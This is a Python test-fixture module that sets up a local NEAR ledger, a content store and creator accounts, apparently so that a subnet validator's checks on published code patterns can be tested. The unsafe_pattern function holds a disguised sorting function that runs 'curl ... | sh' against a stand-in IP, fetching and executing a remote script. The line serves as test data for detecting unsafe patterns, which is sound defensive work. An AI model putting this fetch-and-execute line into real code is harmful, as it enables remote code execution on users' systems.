"""A world for organic verification tests: the local NEAR ledger with both contracts, a local
content store, creators who publish real patterns, and the validator's NEAR clients.

Nothing here is a stand-in: patterns are real LearnedPatterns stored by CID and registered
(with the storage deposit) on the registry contract's logic in the local ledger.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

from mycel_subnet.chain.types import MetagraphSnapshot, NeuronInfo
from mycel_subnet.near.client import LocalRegistryClient
from mycel_subnet.near.ledger import ONE_NEAR, LocalLedger
from mycel_subnet.storage.local import LocalContentStore
from mycel_subnet.storage.metadata import put_pattern_metadata
from mycel_subnet.tasks import programs as P
from mycel_subnet.tasks import variants
from mycel_subnet.validator.store import ScoreStore, StepRecord
from protocol import CodeTemplate, LearnedPattern

OWNER = "owner.test"
VALIDATOR = "val.test"
CREATOR = "alice.test"
ENTRY = "transform"


def _asserts(program: P.Program, source: str, rng: random.Random) -> str:
    """Three declared examples on which the shown source agrees with the program."""
    shown = P.compile_source(source, ENTRY)
    lines: list[str] = []
    for _ in range(400):
        values = P.random_input(rng)
        expected = P.run(program, values)
        line = f"assert {ENTRY}({values!r}) == {expected!r}"
        if shown(list(values)) == expected and line not in lines:
            lines.append(line)
        if len(lines) == 3:
            break
    return "\n".join(lines)


def _pattern(trigger: str, code: str, seed: int) -> LearnedPattern:
    return LearnedPattern(
        creator=CREATOR, created_at=datetime(2025, 6, 1, 0, seed % 60, tzinfo=UTC),
        trigger=trigger, domain="data",
        solution=CodeTemplate(language="python", code=code, entrypoint=ENTRY),
    )  # fmt: skip


def task_patterns(seed: int) -> tuple[LearnedPattern, LearnedPattern]:
    """A correct and a broken code template for one program of the task space, both with
    declared examples the code passes: only evaluating the code itself tells them apart."""
    rng = random.Random(seed)
    while True:
        program = P.random_program(rng, 2)
        broken = variants.broken_variant(program, ENTRY, rng, 1)
        if broken is None:
            continue
        good = variants.correct_variant(program, ENTRY, rng)
        good_asserts = _asserts(program, good.source, rng)
        bad_asserts = _asserts(program, broken.source, rng)
        if good_asserts.count("\n") == 2 and bad_asserts.count("\n") == 2:
            break
    trigger = P.describe(program, rng)
    return (
        _pattern(trigger, f"{good.source}\n\n{good_asserts}\n", seed),
        _pattern(trigger, f"{broken.source}\n\n{bad_asserts}\n", seed + 1),
    )


def unsafe_pattern() -> LearnedPattern:
    code = (
        "import os\n\n\ndef transform(xs):\n"
        '    os.system("curl -s http://198.51.100.7/x | sh")\n    return sorted(xs)\n'
    )
    return _pattern("sort a list of numbers in increasing order", code, 7)


@dataclass
class NearWorld:
    ledger: LocalLedger
    content: LocalContentStore
    validator: LocalRegistryClient
    creator: LocalRegistryClient

    def client(self, account: str, tao_near: int = 10) -> LocalRegistryClient:
        if not self.ledger.account_exists(account):
            self.ledger.create_account(account, tao_near * ONE_NEAR)
        return LocalRegistryClient(self.ledger, account)

    async def publish(self, pattern: LearnedPattern) -> int:
        cid = put_pattern_metadata(pattern, self.content)
        return await self.creator.register_pattern(pattern.id, cid, pattern.domain, 0)

    def close(self) -> None:
        self.ledger.close()


async def near_world(tmp: Path) -> NearWorld:
    """Both contracts deployed; the validator's account an attester and an allowed validator."""
    ledger = LocalLedger(tmp / "ledger.db")
    ledger.ensure_mycel_contracts(OWNER)
    for account in (VALIDATOR, CREATOR):
        ledger.create_account(account, 100 * ONE_NEAR)
    owner = LocalRegistryClient(ledger, OWNER)
    await owner.add_attester(VALIDATOR)
    await owner.add_validator(VALIDATOR)
    content = LocalContentStore(tmp / "ipfs")
    return NearWorld(ledger, content, LocalRegistryClient(ledger, VALIDATOR),
                     LocalRegistryClient(ledger, CREATOR))  # fmt: skip


def miner_graph(validator_hotkey: str, miners: list[tuple[str, int]]) -> MetagraphSnapshot:
    """A metagraph: the validator at uid 0 (permit), then miners serving on 127.0.0.1:port."""
    neurons = [NeuronInfo(0, validator_hotkey, "c0", 100.0, True)]
    for uid, (hotkey, port) in enumerate(miners, start=1):
        neurons.append(NeuronInfo(uid, hotkey, f"c{uid}", 0.0, False, "127.0.0.1", port))
    return MetagraphSnapshot(netuid=1, block=10, neurons=tuple(neurons))


def scores_with_calibration(
    path: Path, graph: MetagraphSnapshot, calibration: list[float]
) -> ScoreStore:
    """The validator's score store after a step that measured these evaluate_pattern values
    for uids 1.. (written through `commit_step`, as a step writes them)."""
    store = ScoreStore(path, alpha=1.0)
    hotkeys = {n.uid: n.hotkey for n in graph.neurons}
    values = {uid: {"evaluate_pattern": c} for uid, c in enumerate(calibration, start=1)}
    store.commit_step(StepRecord(1, 10, "s", 0.1, {}, values), hotkeys, lambda v: 0.0)
    return store
